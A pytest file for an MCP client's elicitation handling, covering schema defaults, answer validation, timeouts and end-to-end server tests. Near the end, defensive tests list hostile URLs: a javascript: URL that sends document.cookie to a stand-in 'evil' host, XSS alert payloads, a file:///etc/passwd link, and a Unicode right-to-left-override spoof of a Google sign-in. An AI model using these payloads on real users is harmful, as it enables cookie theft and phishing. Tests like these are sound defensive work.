"""Answering elicitation/create: who answers (on_elicitation, a person through the display
manager, nobody in server mode), SEP-1034 defaults, checking answers against the restricted
schema, timeouts, and a real MCP server whose tools elicit."""

from __future__ import annotations

import asyncio
import json
import logging
import math
from collections.abc import Mapping
from typing import Any

import mcp_types as types
import pytest
from mcp.client.session import ClientRequestContext, ClientSession
from mcp.client.streamable_http import streamable_http_client
from mcp.server.mcpserver import Context, MCPServer
from mcp.shared.exceptions import MCPError
from pydantic import BaseModel

from glove_core import DisplayManager, Slot
from glove_mcp.connect.elicitation import (
    DEFAULT_ELICITATION_TIMEOUT,
    ELICITATION_RENDERER,
    OnElicitation,
    answer_elicitation,
)
from glove_mcp.testing import serve

# The schema of the conformance scenario elicitation-sep1034-client-defaults.
DEFAULTS_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "name": {"type": "string", "description": "User name", "default": "John Doe"},
        "age": {"type": "integer", "description": "User age", "default": 30},
        "score": {"type": "number", "description": "User score", "default": 95.5},
        "status": {
            "type": "string",
            "enum": ["active", "inactive", "pending"],
            "default": "active",
        },
        "verified": {"type": "boolean", "default": True},
    },
    "required": [],
}
DEFAULTS = {"name": "John Doe", "age": 30, "score": 95.5, "status": "active", "verified": True}


def form(schema: Mapping[str, Any], message: str = "Tell me") -> types.ElicitRequestFormParams:
    return types.ElicitRequestFormParams(message=message, requested_schema=dict(schema))


def prop_schema(prop: dict[str, Any], *, required: bool = False) -> dict[str, Any]:
    return {"type": "object", "properties": {"f": prop}, "required": ["f"] if required else []}


def url_params(elicitation_id: str | None = "el-1") -> types.ElicitRequestURLParams:
    return types.ElicitRequestURLParams(
        message="Connect your account",
        url="https://example.com/connect",
        elicitation_id=elicitation_id,
    )


def answering(answer: Any) -> OnElicitation:
    return lambda request: answer


async def by_handler(
    params: types.ElicitRequestParams, answer: Any
) -> types.ElicitResult | types.ErrorData:
    return await answer_elicitation(
        "srv", params, on_elicitation=answering(answer), display=None, server_mode=False
    )


async def accept(schema: Mapping[str, Any], content: Any) -> types.ElicitResult | types.ErrorData:
    return await by_handler(form(schema), {"action": "accept", "content": content})


def error_of(result: types.ElicitResult | types.ErrorData) -> types.ErrorData:
    assert isinstance(result, types.ErrorData), result
    return result


# -- SEP-1034 defaults and accepted content --------------------------------------------------


async def test_empty_accept_gets_every_default() -> None:
    result = await accept(DEFAULTS_SCHEMA, {})
    assert result == types.ElicitResult(action="accept", content=DEFAULTS)


async def test_accept_without_content_gets_the_defaults() -> None:
    result = await by_handler(form(DEFAULTS_SCHEMA), {"action": "accept"})
    assert isinstance(result, types.ElicitResult)
    assert result.content == DEFAULTS


async def test_given_values_win_over_defaults_and_none_counts_as_omitted() -> None:
    result = await accept(DEFAULTS_SCHEMA, {"name": "Ada", "age": None, "verified": False})
    assert isinstance(result, types.ElicitResult)
    assert result.content == {**DEFAULTS, "name": "Ada", "verified": False}


async def test_optional_field_without_default_is_left_out() -> None:
    result = await accept(prop_schema({"type": "string"}), {})
    assert result == types.ElicitResult(action="accept", content={})


async def test_integral_float_for_an_integer_becomes_an_int() -> None:
    result = await accept(prop_schema({"type": "integer"}), {"f": 4.0})
    assert isinstance(result, types.ElicitResult) and result.content is not None
    assert result.content["f"] == 4 and isinstance(result.content["f"], int)


@pytest.mark.parametrize(
    ("prop", "value"),
    [
        ({"type": "string", "format": "email"}, "ada@example.com"),
        ({"type": "string", "format": "uri"}, "https://example.com/x"),
        ({"type": "string", "format": "uri"}, "urn:isbn:0451450523"),
        ({"type": "string", "format": "date"}, "2025-01-31"),
        ({"type": "string", "format": "date-time"}, "2025-01-31T09:30:00Z"),
        ({"type": "string", "format": "date-time"}, "2025-01-31T09:30:00.5+02:00"),
        ({"type": "string", "minLength": 2, "maxLength": 3}, "abc"),
        ({"type": "number", "minimum": 0, "maximum": 1}, 0.5),
        ({"type": "string", "oneOf": [{"const": "r", "title": "Red"}]}, "r"),
        ({"type": "string", "enum": ["r", "g"], "enumNames": ["Red", "Green"]}, "g"),
        ({"type": "array", "items": {"type": "string", "enum": ["a", "b"]}}, ["b", "a"]),
        ({"type": "array", "items": {"anyOf": [{"const": "a", "title": "A"}]}}, ["a"]),
    ],
)
async def test_values_that_fit_are_accepted(prop: dict[str, Any], value: Any) -> None:
    result = await accept(prop_schema(prop), {"f": value})
    assert result == types.ElicitResult(action="accept", content={"f": value})


async def test_decline_and_cancel_carry_no_content() -> None:
    for action in ("decline", "cancel"):
        result = await by_handler(form(DEFAULTS_SCHEMA), {"action": action, "content": {"x": 1}})
        assert result == types.ElicitResult(action=action)


# -- answers that do not fit -----------------------------------------------------------------

MULTI = {"type": "array", "items": {"type": "string", "enum": ["a", "b", "c"]}}


@pytest.mark.parametrize(
    ("prop", "value", "problem"),
    [
        ({"type": "string"}, 3, "field 'f': expected a string, got a number"),
        (
            {"type": "string", "minLength": 3},
            "ab",
            "field 'f': must be at least 3 characters (got 2)",
        ),
        (
            {"type": "string", "maxLength": 1},
            "ab",
            "field 'f': must be at most 1 characters (got 2)",
        ),
        ({"type": "string", "format": "email"}, "ada", "field 'f': must be an email address"),
        ({"type": "string", "format": "uri"}, "example.com", "field 'f': must be an absolute URI"),
        ({"type": "string", "format": "uri"}, "https://", "must be an absolute URI with a host"),
        (
            {"type": "string", "format": "date"},
            "2025-02-30",
            "field 'f': must be a date as YYYY-MM-DD",
        ),
        ({"type": "string", "format": "date"}, "20250101", "must be a date as YYYY-MM-DD"),
        ({"type": "string", "format": "date-time"}, "2025-01-31T09:30:00", "with a time zone"),
        ({"type": "string", "format": "date-time"}, "2025-13-31T09:30:00Z", "with a time zone"),
        ({"type": "number"}, "1", "field 'f': expected a number, got a string"),
        ({"type": "number"}, True, "field 'f': expected a number, got a boolean"),
        ({"type": "number"}, math.nan, "field 'f': must be a finite number"),
        ({"type": "number"}, math.inf, "field 'f': must be a finite number"),
        ({"type": "integer"}, 1.5, "field 'f': expected an integer, got a fraction"),
        ({"type": "integer", "minimum": 1}, 0, "field 'f': must be at least 1"),
        ({"type": "number", "maximum": 1}, 1.5, "field 'f': must be at most 1"),
        ({"type": "boolean"}, "yes", "field 'f': expected true or false, got a string"),
        ({"type": "string", "enum": ["a", "b"]}, "c", "field 'f': must be one of 'a', 'b'"),
        (
            {"type": "string", "oneOf": [{"const": "r", "title": "Red"}]},
            "Red",
            "field 'f': must be one of 'r'",
        ),
        (MULTI, "a", "field 'f': expected a list of choices, got a string"),
        (MULTI, ["a", "z"], "field 'f': every choice must be one of 'a', 'b', 'c'"),
        (MULTI, ["a", 1], "field 'f': every choice must be one of"),
        (MULTI, ["a", "a"], "field 'f': a choice is picked twice"),
        ({**MULTI, "minItems": 2}, ["a"], "field 'f': pick at least 2 (got 1)"),
        ({**MULTI, "maxItems": 1}, ["a", "b"], "field 'f': pick at most 1 (got 2)"),
        ({"type": "string"}, {"x": 1}, "field 'f': expected a string, got an object"),
        ({"type": "string"}, object(), "field 'f': expected a string, got a object (not JSON)"),
    ],
)
async def test_handler_content_that_does_not_fit_is_an_invalid_params_error(
    prop: dict[str, Any], value: Any, problem: str, caplog: pytest.LogCaptureFixture
) -> None:
    error = error_of(await accept(prop_schema(prop), {"f": value}))
    assert error.code == types.INVALID_PARAMS
    assert error.message.startswith("invalid elicitation answer: ")
    assert problem in error.message
    assert error.data == {"field": "f"}
    assert any(problem in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)


async def test_a_rejected_value_is_never_quoted() -> None:
    error = error_of(await accept(prop_schema({"type": "integer"}), {"f": "hunter2"}))
    assert "hunter2" not in error.message


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ({}, "field 'f': a value is required"),
        ({"f": None}, "field 'f': a value is required"),
        ({"f": "x", "g": 1}, "unknown field 'g' (the form asks for 'f')"),
        ({"f": "x", 3: 1}, "unknown field '3'"),
        (["x"], "content must be an object of field name to value, got a list"),
        ("x", "content must be an object of field name to value, got a string"),
    ],
)
async def test_missing_unknown_and_malformed_content(content: Any, problem: str) -> None:
    error = error_of(await accept(prop_schema({"type": "string"}, required=True), content))
    assert error.code == types.INVALID_PARAMS
    assert problem in error.message


async def test_unknown_field_of_an_empty_form() -> None:
    error = error_of(await accept({"type": "object", "properties": {}}, {"g": 1}))
    assert "unknown field 'g' (the form asks for no fields)" in error.message
    assert error.data is None


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        (None, "the answer must be a dict {'action': 'accept' | 'decline' | 'cancel'"),
        ("accept", "got str"),
        ({"action": "ok"}, "the answer's action must be 'accept', 'decline' or 'cancel' ('ok')"),
        ({}, "the answer's action must be 'accept', 'decline' or 'cancel' (None)"),
    ],
)
async def test_an_answer_that_is_not_an_answer(answer: Any, problem: str) -> None:
    error = error_of(await by_handler(form(DEFAULTS_SCHEMA), answer))
    assert error.code == types.INVALID_PARAMS
    assert problem in error.message


async def test_a_default_that_breaks_the_servers_own_schema_names_the_field() -> None:
    error = error_of(await accept(prop_schema({"type": "integer", "default": "x"}), {}))
    assert "field 'f': expected an integer, got a string" in error.message


# -- schemas a server should not send --------------------------------------------------------


@pytest.mark.parametrize(
    ("schema", "problem"),
    [
        ({"type": "array"}, "requested_schema: type must be 'object'"),
        ({"type": "object", "properties": []}, "requested_schema: properties must be an object"),
        (
            {"type": "object", "properties": {}, "required": "f"},
            "requested_schema: required must be a list of property names",
        ),
        (
            {"type": "object", "properties": {}, "required": ["f"]},
            "requested_schema: required names 'f', which is not a property",
        ),
        (prop_schema(3), "property 'f' of requested_schema: must be an object"),  # type: ignore[arg-type]
        (prop_schema({"type": "object"}), "property 'f' of requested_schema: type must be string"),
        (prop_schema({}), "type must be string, number, integer, boolean or array"),
        (
            prop_schema({"type": "array", "items": {"type": "string"}}),
            "an array must have items with enum or anyOf (a multi-select)",
        ),
        (
            prop_schema({"type": "string", "enum": []}),
            "enum must be a non-empty list of strings",
        ),
        (
            prop_schema({"type": "string", "enum": [1, 2]}),
            "enum must be a non-empty list of strings",
        ),
        (
            prop_schema({"type": "string", "oneOf": [{"title": "x"}]}),
            "every oneOf option needs a string const",
        ),
        (
            prop_schema({"type": "string", "oneOf": {}}),
            "oneOf must be a non-empty list of {const, title} options",
        ),
        (
            prop_schema({"type": "string", "format": "password"}),
            "format must be one of date, date-time, email, uri",
        ),
        (prop_schema({"type": "string", "minLength": "2"}), "minLength must be an integer"),
        (prop_schema({"type": "number", "maximum": True}), "maximum must be a number"),
    ],
)
async def test_a_schema_outside_the_restricted_subset_is_refused_before_asking(
    schema: dict[str, Any], problem: str
) -> None:
    asked: list[dict[str, Any]] = []

    def handler(request: dict[str, Any]) -> dict[str, Any]:
        asked.append(request)
        return {"action": "accept"}

    result = await answer_elicitation(
        "srv", form(schema), on_elicitation=handler, display=None, server_mode=False
    )
    error = error_of(result)
    assert error.code == types.INVALID_PARAMS
    assert error.message.startswith("unsupported elicitation: ")
    assert problem in error.message
    assert asked == []


# -- on_elicitation --------------------------------------------------------------------------


async def test_sync_handler_gets_the_request_dict() -> None:
    seen: list[dict[str, Any]] = []

    def handler(request: dict[str, Any]) -> dict[str, Any]:
        seen.append(request)
        request["requested_schema"]["properties"].clear()  # must not change what is checked
        return {"action": "accept", "content": {"name": "Ada"}}

    display = DisplayManager()
    pushed: list[list[Slot]] = []
    display.subscribe(pushed.append)
    result = await answer_elicitation(
        "notes",
        form(DEFAULTS_SCHEMA, "Who?"),
        on_elicitation=handler,
        display=display,
        server_mode=False,
    )
    assert result == types.ElicitResult(action="accept", content={**DEFAULTS, "name": "Ada"})
    assert seen[0]["server"] == "notes" and seen[0]["mode"] == "form"
    assert seen[0]["message"] == "Who?" and set(seen[0]) == {
        "server",
        "mode",
        "message",
        "requested_schema",
    }
    assert pushed == []  # on_elicitation answers instead of the display manager


async def test_async_handler_in_server_mode() -> None:
    async def handler(request: dict[str, Any]) -> dict[str, Any]:
        await asyncio.sleep(0)
        return {"action": "accept", "content": {}}

    result = await answer_elicitation(
        "srv", form(DEFAULTS_SCHEMA), on_elicitation=handler, display=None, server_mode=True
    )
    assert result == types.ElicitResult(action="accept", content=DEFAULTS)


async def test_url_mode_request_and_accept_without_content() -> None:
    seen: list[dict[str, Any]] = []

    def handler(request: dict[str, Any]) -> dict[str, Any]:
        seen.append(request)
        return {"action": "accept", "content": {"ignored": True}}

    result = await answer_elicitation(
        "srv", url_params(), on_elicitation=handler, display=None, server_mode=False
    )
    assert result == types.ElicitResult(action="accept")
    assert seen == [
        {
            "server": "srv",
            "mode": "url",
            "message": "Connect your account",
            "url": "https://example.com/connect",
            "host": "example.com",
            "elicitation_id": "el-1",
        }
    ]
    seen.clear()
    await answer_elicitation(
        "srv", url_params(None), on_elicitation=handler, display=None, server_mode=False
    )
    assert "elicitation_id" not in seen[0]


@pytest.mark.parametrize("is_async", [False, True])
async def test_a_raising_handler_becomes_an_error_answer_without_its_text(
    is_async: bool, caplog: pytest.LogCaptureFixture
) -> None:
    def boom(request: dict[str, Any]) -> dict[str, Any]:
        raise RuntimeError("db password is hunter2")

    async def aboom(request: dict[str, Any]) -> dict[str, Any]:
        raise RuntimeError("db password is hunter2")

    result = await answer_elicitation(
        "srv",
        form(DEFAULTS_SCHEMA),
        on_elicitation=aboom if is_async else boom,
        display=None,
        server_mode=False,
    )
    error = error_of(result)
    assert error.code == types.INTERNAL_ERROR
    assert error.message == "the client's elicitation handler failed (RuntimeError)"
    assert "hunter2" not in repr(error)
    record = next(r for r in caplog.records if r.levelno == logging.ERROR)
    assert "on_elicitation raised on an elicitation of MCP server 'srv'" in record.getMessage()
    assert record.exc_info is not None  # the traceback stays in our own log


async def test_a_handler_raising_timeout_error_itself_is_an_error_not_a_cancel() -> None:
    def handler(request: dict[str, Any]) -> dict[str, Any]:
        raise TimeoutError

    result = await answer_elicitation(
        "srv", form(DEFAULTS_SCHEMA), on_elicitation=handler, display=None, server_mode=False
    )
    assert error_of(result).message == "the client's elicitation handler failed (TimeoutError)"


async def test_a_slow_handler_is_cancelled_at_the_timeout(caplog: pytest.LogCaptureFixture) -> None:
    never = asyncio.Event()

    async def handler(request: dict[str, Any]) -> dict[str, Any]:
        await never.wait()
        return {"action": "accept"}

    result = await answer_elicitation(
        "srv",
        form(DEFAULTS_SCHEMA),
        on_elicitation=handler,
        display=None,
        server_mode=False,
        timeout=0.01,
    )
    assert result == types.ElicitResult(action="cancel")
    assert "on_elicitation did not answer MCP server 'srv' within 0.01 s" in caplog.text


@pytest.mark.parametrize("limit", [0, -1, math.nan, math.inf])
async def test_a_timeout_that_is_not_a_positive_number_is_refused(limit: float) -> None:
    with pytest.raises(ValueError, match="timeout must be a positive number of seconds or None"):
        await answer_elicitation(
            "srv",
            form(DEFAULTS_SCHEMA),
            on_elicitation=None,
            display=None,
            server_mode=True,
            timeout=limit,
        )


def test_the_default_timeout_is_bounded() -> None:
    assert 0 < DEFAULT_ELICITATION_TIMEOUT < math.inf


# -- nobody to ask ---------------------------------------------------------------------------


async def test_server_mode_declines_and_says_why(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="glove_mcp.connect.elicitation")
    display = DisplayManager()
    pushed: list[list[Slot]] = []
    display.subscribe(pushed.append)
    result = await answer_elicitation(
        "notes", form(DEFAULTS_SCHEMA), on_elicitation=None, display=display, server_mode=True
    )
    assert result == types.ElicitResult(action="decline")
    assert pushed == []
    assert (
        "declined an elicitation of MCP server 'notes': no on_elicitation handler and the agent "
        "runs in server mode (no person to ask); pass on_elicitation= to answer it"
    ) in caplog.text


async def test_no_display_manager_declines_and_says_why(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="glove_mcp.connect.elicitation")
    result = await answer_elicitation(
        "notes", url_params(), on_elicitation=None, display=None, server_mode=False
    )
    assert result == types.ElicitResult(action="decline")
    assert "there is no display manager to ask a person through" in caplog.text


# -- a person, through the display manager ---------------------------------------------------


def answer_slots(
    display: DisplayManager, answers: list[Any], shown: list[Any], *, in_task: bool
) -> None:
    """Answer each new elicitation slot with the next answer, as an application would: on the
    spot inside the listener, or from a task it starts."""
    seen: set[str] = set()
    tasks: set[asyncio.Task[None]] = set()

    async def later(slot_id: str, answer: Any) -> None:
        await asyncio.sleep(0)
        display.resolve(slot_id, answer)

    def listener(slots: list[Slot]) -> None:
        for slot in slots:
            if slot.renderer != ELICITATION_RENDERER or slot.id in seen:
                continue
            seen.add(slot.id)
            shown.append(slot.input)
            answer = answers.pop(0)
            if in_task:
                task = asyncio.get_running_loop().create_task(later(slot.id, answer))
                tasks.add(task)
                task.add_done_callback(tasks.discard)
            else:
                display.resolve(slot.id, answer)

    display.subscribe(listener)


async def ask_person(
    display: DisplayManager, params: types.ElicitRequestParams, limit: float | None = 5.0
) -> types.ElicitResult | types.ErrorData:
    return await answer_elicitation(
        "notes", params, on_elicitation=None, display=display, server_mode=False, timeout=limit
    )


@pytest.mark.parametrize("in_task", [False, True])
async def test_a_person_answers_through_the_slot(in_task: bool) -> None:
    display = DisplayManager()
    shown: list[Any] = []
    answer_slots(display, [{"action": "accept", "content": {"age": 41}}], shown, in_task=in_task)
    result = await ask_person(display, form(DEFAULTS_SCHEMA, "Your profile"))
    assert result == types.ElicitResult(action="accept", content={**DEFAULTS, "age": 41})
    assert shown == [
        {
            "server": "notes",
            "mode": "form",
            "message": "Your profile",
            "requested_schema": DEFAULTS_SCHEMA,
        }
    ]
    assert display.slots == []


async def test_a_url_slot_carries_url_and_id() -> None:
    display = DisplayManager()
    shown: list[Any] = []
    answer_slots(display, [{"action": "decline"}], shown, in_task=True)
    assert await ask_person(display, url_params()) == types.ElicitResult(action="decline")
    assert shown[0]["url"] == "https://example.com/connect"
    assert shown[0]["elicitation_id"] == "el-1" and shown[0]["mode"] == "url"


async def test_an_answer_that_does_not_fit_is_shown_again_with_the_error() -> None:
    display = DisplayManager()
    shown: list[Any] = []
    answers = [{"action": "accept", "content": {"age": "old"}}, {"action": "accept"}]
    answer_slots(display, answers, shown, in_task=True)
    result = await ask_person(display, form(DEFAULTS_SCHEMA))
    assert result == types.ElicitResult(action="accept", content=DEFAULTS)
    assert "error" not in shown[0]
    assert shown[1]["error"] == "field 'age': expected an integer, got a string"
    assert {k: v for k, v in shown[1].items() if k != "error"} == shown[0]


async def test_three_answers_that_do_not_fit_cancel(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="glove_mcp.connect.elicitation")
    display = DisplayManager()
    shown: list[Any] = []
    answer_slots(
        display,
        ["nonsense", {"action": "maybe"}, {"action": "accept", "content": []}],
        shown,
        in_task=True,
    )
    assert await ask_person(display, form(DEFAULTS_SCHEMA)) == types.ElicitResult(action="cancel")
    assert len(shown) == 3
    assert shown[1]["error"].startswith("the answer must be a dict")
    assert shown[2]["error"].startswith("the answer's action must be")
    assert "3 answers to the elicitation of MCP server 'notes' did not fit" in caplog.text
    assert display.slots == []


async def test_a_rejected_slot_cancels(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="glove_mcp.connect.elicitation")
    display = DisplayManager()

    def listener(slots: list[Slot]) -> None:
        for slot in slots:
            display.reject(slot.id, "the user closed the window")

    display.subscribe(listener)
    assert await ask_person(display, form(DEFAULTS_SCHEMA)) == types.ElicitResult(action="cancel")
    assert "the application rejected the elicitation slot of MCP server 'notes'" in caplog.text


async def test_nobody_answering_cancels_at_the_timeout_and_removes_the_slot(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, logger="glove_mcp.connect.elicitation")
    display = DisplayManager()
    shown: list[list[Slot]] = []
    display.subscribe(shown.append)
    result = await ask_person(display, form(DEFAULTS_SCHEMA), limit=0.01)
    assert result == types.ElicitResult(action="cancel")
    assert shown[0][0].renderer == ELICITATION_RENDERER
    assert display.slots == []
    assert "nobody answered the elicitation of MCP server 'notes' within 0.01 s" in caplog.text


async def test_cancelling_the_request_removes_the_slot_and_propagates() -> None:
    display = DisplayManager()
    pushed = asyncio.Event()
    display.subscribe(lambda slots: pushed.set() if slots else None)
    task = asyncio.create_task(ask_person(display, form(DEFAULTS_SCHEMA), limit=None))
    await pushed.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert display.slots == []


# -- end to end: a real MCP server whose tools elicit ----------------------------------------

SIGNUP_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        **DEFAULTS_SCHEMA["properties"],
        "email": {"type": "string", "format": "email", "title": "Email"},
        "tags": {"type": "array", "items": {"type": "string", "enum": ["x", "y"]}},
    },
    "required": ["email"],
}


class Profile(BaseModel):
    """A form the SDK renders from a model."""

    nickname: str
    level: int = 3


def eliciting_server(received: list[Any]) -> MCPServer:
    server = MCPServer("eliciting", log_level="WARNING")

    @server.tool()
    async def signup(ctx: Context) -> str:
        """Ask for sign-up details with a raw schema; report what arrived."""
        result = await ctx.request_context.session.elicit_form(
            "Sign up", SIGNUP_SCHEMA, related_request_id=ctx.request_id
        )
        received.append(result.content)
        return json.dumps({"action": result.action, "content": result.content})

    @server.tool()
    async def profile(ctx: Context) -> str:
        """Ask for a profile through the SDK's typed elicit."""
        result = await ctx.elicit("Your profile", Profile)
        if result.action == "accept":
            received.append(result.data.model_dump())
        return result.action

    @server.tool()
    async def connect(ctx: Context) -> str:
        """Ask the user to open a page."""
        result = await ctx.elicit_url("Connect", "https://example.com/c", "el-9")
        return result.action

    return server


async def call_through(
    server: MCPServer,
    tool: str,
    *,
    on_elicitation: OnElicitation | None = None,
    display: DisplayManager | None = None,
    server_mode: bool = False,
) -> types.CallToolResult | MCPError:
    async def callback(
        context: ClientRequestContext, params: types.ElicitRequestParams
    ) -> types.ElicitResult | types.ErrorData:
        return await answer_elicitation(
            "eliciting",
            params,
            on_elicitation=on_elicitation,
            display=display,
            server_mode=server_mode,
            timeout=10,
        )

    async with (
        serve(server) as url,
        streamable_http_client(url) as (read, write),
        ClientSession(read, write, elicitation_callback=callback) as session,
    ):
        await session.initialize()
        try:
            return await session.call_tool(tool, {})
        except MCPError as exc:  # inside the session, before its task group wraps it
            return exc


def text_of(result: types.CallToolResult | MCPError) -> str:
    assert isinstance(result, types.CallToolResult), result
    block = result.content[0]
    assert isinstance(block, types.TextContent)
    return block.text


async def test_e2e_the_server_receives_defaulted_checked_content() -> None:
    received: list[Any] = []
    answer = answering({"action": "accept", "content": {"email": "ada@example.com", "age": 7.0}})
    result = await call_through(eliciting_server(received), "signup", on_elicitation=answer)
    assert isinstance(result, types.CallToolResult) and not result.is_error, result
    assert received == [{**DEFAULTS, "age": 7, "email": "ada@example.com"}]
    assert json.loads(text_of(result))["action"] == "accept"


async def test_e2e_a_bad_handler_answer_reaches_the_server_as_an_error() -> None:
    received: list[Any] = []
    answer = answering({"action": "accept", "content": {"email": "not-an-address"}})
    result = await call_through(eliciting_server(received), "signup", on_elicitation=answer)
    # The SDK's elicit_form raises our error answer, which the tool call passes on.
    assert isinstance(result, MCPError)
    assert result.error.code == types.INVALID_PARAMS
    assert result.error.message == (
        "invalid elicitation answer: field 'email': must be an email address (name@domain)"
    )
    assert received == []


async def test_e2e_a_person_answers_the_sdks_typed_elicit() -> None:
    received: list[Any] = []
    display = DisplayManager()
    shown: list[Any] = []
    answer_slots(
        display, [{"action": "accept", "content": {"nickname": "ada"}}], shown, in_task=True
    )
    result = await call_through(eliciting_server(received), "profile", display=display)
    assert text_of(result) == "accept"
    assert received == [{"nickname": "ada", "level": 3}]
    assert shown[0]["requested_schema"]["required"] == ["nickname"]


async def test_e2e_url_mode_accept() -> None:
    seen: list[dict[str, Any]] = []

    def handler(request: dict[str, Any]) -> dict[str, Any]:
        seen.append(request)
        return {"action": "accept"}

    result = await call_through(eliciting_server([]), "connect", on_elicitation=handler)
    assert text_of(result) == "accept"
    assert seen[0]["url"] == "https://example.com/c" and seen[0]["elicitation_id"] == "el-9"


async def test_e2e_server_mode_declines() -> None:
    received: list[Any] = []
    result = await call_through(
        eliciting_server(received), "signup", display=DisplayManager(), server_mode=True
    )
    assert json.loads(text_of(result)) == {"action": "decline", "content": None}
    assert received == [None]


# -- URLs and text a person is shown ----------------------------------------------------------


def _url(url: str, message: str = "Connect") -> types.ElicitRequestURLParams:
    return types.ElicitRequestURLParams(message=message, url=url, elicitation_id="e")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('//evil/'+document.cookie)",
        "JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https:///no-host",
    ],
)
async def test_a_url_that_is_not_an_http_page_is_never_shown(
    url: str, caplog: pytest.LogCaptureFixture
) -> None:
    seen: list[dict[str, Any]] = []

    def shown(params: dict[str, Any]) -> dict[str, Any]:
        seen.append(params)
        return {"action": "accept"}

    result = await answer_elicitation(
        "srv", _url(url), on_elicitation=shown, display=None, server_mode=False
    )
    assert result == types.ElicitResult(action="decline")
    assert seen == []
    [line] = [
        r.getMessage() for r in caplog.records if "refused a URL elicitation" in r.getMessage()
    ]
    assert "'srv'" in line and ("only http and https" in line or "no host" in line)


async def test_format_characters_are_stripped_and_the_host_shown_on_its_own() -> None:
    seen: list[dict[str, Any]] = []

    def handler(request: dict[str, Any]) -> dict[str, Any]:
        seen.append(request)
        return {"action": "decline"}

    url = "https://evil.example/\u202emoc.elgoog.www//:sptth"
    await answer_elicitation(
        "srv",
        _url(url, message="Sign in to \u202egoogle\u2066"),
        on_elicitation=handler,
        display=None,
        server_mode=False,
    )
    [request] = seen
    assert request["host"] == "evil.example"
    assert request["url"] == "https://evil.example/moc.elgoog.www//:sptth"
    assert "\u202e" not in request["message"] and "\u2066" not in request["message"]
    schema = {
        "type": "object",
        "properties": {"f": {"type": "string", "title": "Na\u202eme", "enum": ["a\u200bb"]}},
    }
    seen.clear()
    await answer_elicitation(
        "srv", form(schema), on_elicitation=handler, display=None, server_mode=False
    )
    field = seen[0]["requested_schema"]["properties"]["f"]
    assert field["title"] == "Name" and field["enum"] == ["a\u200bb"]


def test_the_terminal_helper_strips_format_and_control_characters() -> None:
    from glove_mcp.cli.console import plain

    assert plain("a\u202eb\u200bc\x1b[31md\n\te") == "abc[31md\n\te"
